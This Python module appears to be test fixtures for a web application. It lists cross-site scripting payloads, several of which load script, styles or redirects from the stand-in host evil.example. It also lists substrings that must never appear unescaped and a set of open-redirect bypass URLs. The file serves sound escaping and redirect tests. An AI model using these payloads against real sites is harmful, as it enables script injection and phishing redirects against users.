"""Texts that would run, load or break something where they are not escaped."""

from __future__ import annotations

# MARK is put in, so that a test finds the text again.
MARK = "xq7"

XSS = (
    f"<script>document.title='{MARK}'</script>",
    f'"><script src=//evil.example/{MARK}.js></script>',
    f"<img src=x onerror=alert('{MARK}')>",
    f"'\"><svg/onload=alert(/{MARK}/)>",
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f"javascript:alert('{MARK}')",
    f"<iframe srcdoc='<script>parent.alert({MARK!r})</script>'></iframe>",
    f"</script><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><img src=x onerror=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror=alert('{MARK}')>",
    f"{{{{ 7*7 }}}}{{% debug %}}{MARK}",
    f"**<b onmouseover=alert('{MARK}')>bold</b>**",
    f"[x](javascript:alert('{MARK}'))",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f'<div x-data="{{}}" x-init="alert(\'{MARK}\')">{MARK}</div>',
    f"<b hx-get=/me/ hx-trigger=load>{MARK}</b>",
    f"%(name)s %s {{0}} {MARK} \\u003cscript\\u003e",
    f"\u2028\u2029<!--{MARK}--><![CDATA[<script>alert(1)</script>]]>",
)

# What must never stand in a page unescaped.
RAW = (
    "<script>document.title",
    "<script src=//evil",
    "<img src=x",
    "<svg/onload",
    '<a href="javascript:',
    "<iframe srcdoc",
    "</script><script>alert",
    "<details open ontoggle",
    "<mglyph",
    "<b onmouseover",
    "<base href",
    "<meta http-equiv=refresh",
    "<link rel=stylesheet href=//evil",
    '<div x-data="{}"',
    "<b hx-get=/me/",
    "<!--xq7",
    "49{% debug",
)

REDIRECTS = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "\\\\evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "\t//evil.example",
    "%2F%2Fevil.example",
    "/%09/evil.example",
)
